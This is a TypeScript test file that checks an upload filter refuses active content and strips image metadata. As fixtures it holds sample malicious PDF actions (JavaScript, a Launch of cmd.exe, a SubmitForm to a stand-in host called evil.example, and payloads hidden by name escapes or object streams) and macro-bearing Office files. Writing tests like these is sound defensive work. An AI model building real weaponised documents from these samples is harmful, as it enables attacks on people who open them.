import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { HttpError } from '../../server/errors';
import { ACTIVE_CONTENT_REFUSED } from '../../server/uploads/active-content';
import { checkAttachment, checkPicture } from '../../server/uploads/check-upload';
import {
  boundSheetRecord,
  dataUrl,
  jpegWithExif,
  officeDocument,
  ole2Document,
  pdfFile,
  pdfWithObjectStream,
  pdfWithOpenAction,
  pngFile,
} from './support/member-files';
import { createMember, type TestMember } from './support/members';
import { createTestApp, engines, type TestApp } from './support/test-app';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const DOC = 'application/msword';
const XLS = 'application/vnd.ms-excel';
const PDF = 'application/pdf';

async function refusal(value: string): Promise<string | null> {
  try {
    await checkAttachment(value);
    return null;
  } catch (error) {
    expect(error).toBeInstanceOf(HttpError);
    expect((error as HttpError).statusCode).toBe(400);
    return (error as HttpError).message;
  }
}

describe('attachments with active content are refused', () => {
  it('refuses PDFs that run JavaScript, launch programs, submit forms or carry files', async () => {
    const active = [
      pdfWithOpenAction('<< /S /JavaScript /JS (app.alert(1)) >>'),
      pdfWithOpenAction('<< /S /Launch /F (cmd.exe) >>'),
      pdfWithOpenAction('<< /S /SubmitForm /F (https://evil.example/) >>'),
      // Name escapes spell the same names.
      pdfWithOpenAction('<< /S /J#61vaScript /J#53 (app.alert(1)) >>'),
      Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Names << /EmbeddedFiles 2 0 R >> >> endobj\n%%EOF\n', 'latin1'),
      Buffer.from(
        '%PDF-1.7\n1 0 obj << /Type /Filespec /EF << /F 3 0 R >> >> endobj\n3 0 obj << /Type /EmbeddedFile >> endobj\n%%EOF\n',
      ),
      // Hidden in a compressed object stream, where the plain bytes show nothing.
      pdfWithObjectStream('1 0 2 40 << /Type /Catalog /OpenAction 2 0 R >> << /S /JavaScript /JS (this.exportDataObject()) >>'),
    ];
    for (const pdf of active) expect(await refusal(dataUrl(PDF, pdf))).toBe(ACTIVE_CONTENT_REFUSED);
  });

  it('accepts plain PDFs, also with an open action that only sets the view', async () => {
    expect(await refusal(dataUrl(PDF, pdfFile()))).toBeNull();
    expect(await refusal(dataUrl(PDF, pdfWithOpenAction('[3 0 R /Fit]')))).toBeNull();
    expect(await refusal(dataUrl(PDF, pdfWithObjectStream('1 0 << /Type /Catalog /Pages 2 0 R >>')))).toBeNull();
  });

  it('refuses DOCX and XLSX with macros, macro sheets, ActiveX or OLE packages', async () => {
    const active: [string, Buffer][] = [
      [DOCX, officeDocument('docx', { 'word/vbaProject.bin': Buffer.from('VBA') })],
      [XLSX, officeDocument('xlsx', { 'xl/vbaProject.bin': Buffer.from('VBA') })],
      [XLSX, officeDocument('xlsx', { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' })],
      [DOCX, officeDocument('docx', { 'word/activeX/activeX1.xml': '<ax:ocx/>' })],
      [DOCX, officeDocument('docx', { 'word/embeddings/oleObject1.bin': Buffer.from('package') })],
      // A macro-enabled document renamed to .docx: its content types give it away.
      [
        DOCX,
        officeDocument(
          'docx',
          {},
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        ),
      ],
    ];
    for (const [type, file] of active) expect(await refusal(dataUrl(type, file))).toBe(ACTIVE_CONTENT_REFUSED);
    expect(await refusal(dataUrl(DOCX, officeDocument('docx')))).toBeNull();
    expect(await refusal(dataUrl(XLSX, officeDocument('xlsx', { 'xl/worksheets/sheet1.xml': '<worksheet/>' })))).toBeNull();
  });

  it('refuses DOC and XLS with a VBA project or an Excel 4 macro sheet', async () => {
    const doc = (extra: { name: string; kind: 1 | 2 }[]) => ole2Document([{ name: 'WordDocument', kind: 2 }, ...extra]);
    const xls = (tail: Buffer) => ole2Document([{ name: 'Workbook', kind: 2 }], tail);
    expect(await refusal(dataUrl(DOC, doc([{ name: 'Macros', kind: 1 }])))).toBe(ACTIVE_CONTENT_REFUSED);
    expect(await refusal(dataUrl(DOC, doc([{ name: 'VBA', kind: 1 }])))).toBe(ACTIVE_CONTENT_REFUSED);
    expect(
      await refusal(
        dataUrl(
          XLS,
          ole2Document([
            { name: 'Workbook', kind: 2 },
            { name: '_VBA_PROJECT_CUR', kind: 1 },
          ]),
        ),
      ),
    ).toBe(ACTIVE_CONTENT_REFUSED);
    expect(await refusal(dataUrl(XLS, xls(boundSheetRecord('Auto_Open', 1))))).toBe(ACTIVE_CONTENT_REFUSED);
    expect(await refusal(dataUrl(DOC, doc([{ name: '1Table', kind: 2 }])))).toBeNull();
    expect(await refusal(dataUrl(XLS, xls(boundSheetRecord('Sheet1', 0))))).toBeNull();
  });
});

describe('pictures are re-encoded without metadata', () => {
  it('drops EXIF (camera, GPS) and applies the orientation it carried', async () => {
    const photo = jpegWithExif(16, 8, 6);
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const picture = await checkPicture(dataUrl('image/jpeg', photo));
    const meta = await sharp(picture.bytes).metadata();
    expect(meta.exif).toBeUndefined();
    expect(picture.bytes.includes(Buffer.from('SpyCam1'))).toBe(false);
    // Orientation 6 (rotate 90°) is applied to the pixels, so the member sees the same picture.
    expect({ width: meta.width, height: meta.height, format: meta.format }).toEqual({ width: 8, height: 16, format: 'jpeg' });
  });

  it('drops PNG text chunks, keeps PNG as PNG', async () => {
    const png = pngFile(6, 4, 5000); // padded with a 5,000-byte tEXt chunk
    const picture = await checkPicture(dataUrl('image/png', png));
    expect(picture.type).toBe('image/png');
    expect(picture.bytes.includes(Buffer.from('tEXt'))).toBe(false);
    expect(await sharp(picture.bytes).metadata()).toMatchObject({ format: 'png', width: 6, height: 4 });
  });
});

describe.each(engines)('uploads through the API on %s', (engine) => {
  let t: TestApp;
  let member: TestMember;
  beforeAll(async () => {
    t = await createTestApp({ engine });
    member = await createMember(t);
  });
  afterAll(() => t.close());

  const support = (attachment: string) =>
    t.app.inject({
      method: 'POST',
      url: '/entity/contact_message',
      headers: member.headers,
      payload: {
        contact_form: { target_id: 'support' },
        name: { value: 'x' },
        subject: { value: 'Spreadsheet attached' },
        mail: { value: 'x@example.com' },
        message: { value: 'Please look at the numbers.' },
        field_userid: { value: String(member.uid) },
        field_support_image: { value: attachment },
        field_resource: { value: 'Lens Planner - Technical issue' },
      },
    });

  it('refuses a macro document and a scripted PDF with a clear message, mailing nothing', async () => {
    await t.settleJobs();
    const sent = t.mails.length;
    for (const value of [
      dataUrl(XLSX, officeDocument('xlsx', { 'xl/vbaProject.bin': Buffer.from('VBA') })),
      dataUrl(PDF, pdfWithOpenAction('<< /S /JavaScript /JS (app.alert(1)) >>')),
    ]) {
      const res = await support(value);
      expect(res.statusCode).toBe(400);
      expect(res.json()).toEqual({ message: ACTIVE_CONTENT_REFUSED });
    }
    await t.settleJobs();
    expect(t.mails.length).toBe(sent);
  });

  it('mails a photo attachment without its EXIF block', async () => {
    await t.settleJobs();
    const sent = t.mails.length;
    expect((await support(dataUrl('image/jpeg', jpegWithExif()))).statusCode).toBe(201);
    await t.settleJobs();
    const [attachment] = t.mails.slice(sent)[0]!.attachments!;
    expect((await sharp(attachment!.content).metadata()).exif).toBeUndefined();
  });

  it('stores a profile picture without its EXIF block (no GPS position on the server)', async () => {
    const res = await t.app.inject({
      method: 'PATCH',
      url: `/user/${member.uid}?_format=json`,
      headers: member.headers,
      payload: {
        field_picture: { value: dataUrl('image/jpeg', jpegWithExif(32, 24)) },
        field_first_name: { value: 'Anna' },
        field_last_name: { value: 'Tester' },
      },
    });
    expect(res.statusCode).toBe(200);
    const profile = await t.app.inject({
      method: 'GET',
      url: `/jsonapi/user/profile/?filter[uid]=${member.uid}`,
      headers: member.headers,
    });
    const picture = (profile.json() as { data: { picture: string }[] }).data[0]!.picture;
    const stored = (await t.deps.files.get('uploads', path.basename(picture)))!.bytes;
    const meta = await sharp(stored).metadata();
    expect(meta.exif).toBeUndefined();
    expect(stored.includes(Buffer.from('Exif'))).toBe(false);
    expect({ width: meta.width, height: meta.height }).toEqual({ width: 32, height: 24 });
  });
});
